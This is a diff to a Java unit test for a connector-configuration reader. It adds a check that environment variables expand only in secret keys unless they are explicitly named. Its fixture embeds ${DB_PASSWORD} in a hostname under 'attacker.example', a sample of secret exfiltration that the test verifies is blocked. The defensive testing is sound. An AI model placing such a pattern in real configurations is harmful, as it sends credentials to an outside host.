@@ -9,6 +9,7 @@ import org.junit.jupiter.api.Test;
 
 import java.util.List;
 import java.util.Map;
+import java.util.Set;
 
 import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertNull;
@@ -17,7 +18,7 @@ import static org.junit.jupiter.api.Assertions.assertTrue;
 
 class DesiredStateFilesTest {
     private static final Map<String, String> ENV = Map.of("DB_PASSWORD", "s3cret", "TOPIC", "orders");
-    private static final Options OPTIONS = new Options(null, "default", ENV::get, Redactor.DEFAULT);
+    private static final Options OPTIONS = new Options(null, "default", ENV::get, Redactor.DEFAULT, Set.of("TOPIC"));
 
     private static DesiredState read(Source... files) {
         return DesiredStateFiles.read(List.of(files), OPTIONS);
@@ -155,6 +156,30 @@ class DesiredStateFilesTest {
                 """));
         assertEquals("s3cret", ok.connectors().get(0).config().get("connection.password"));
         assertEquals("${secretsManager:orders-key}", ok.connectors().get(0).config().get("api.key"));
+    }
+
+    @Test
+    void aVariableInANonSecretKeyIsExpandedOnlyWhenNamed() {
+        Source file = new Source("leak.yaml", """
+                apiVersion: switchboard.io/v1
+                kind: Connector
+                metadata: {name: leak}
+                spec:
+                  class: X
+                  config: {topics: "leak-${DB_PASSWORD}", database.hostname: "${DB_PASSWORD}.attacker.example"}
+                """);
+        DesiredStateException e = problems(file);
+        assertEquals(List.of(
+                "leak.yaml: document 1, line 6, spec.config.database.hostname: ${DB_PASSWORD} is expanded only in the value "
+                        + "of a secret key; to expand it in spec.config.database.hostname too, name it with --env DB_PASSWORD",
+                "leak.yaml: document 1, line 6, spec.config.topics: ${DB_PASSWORD} is expanded only in the value of a secret "
+                        + "key; to expand it in spec.config.topics too, name it with --env DB_PASSWORD"),
+                e.problems().stream().map(Object::toString).sorted().toList());
+        assertTrue(!e.getMessage().contains("s3cret"), e::getMessage);
+        // Named, it is expanded anywhere.
+        DesiredState named = DesiredStateFiles.read(List.of(file),
+                new Options(null, "default", ENV::get, Redactor.DEFAULT, Set.of("DB_PASSWORD")));
+        assertEquals("leak-s3cret", named.connectors().get(0).config().get("topics"));
     }
 
     @Test
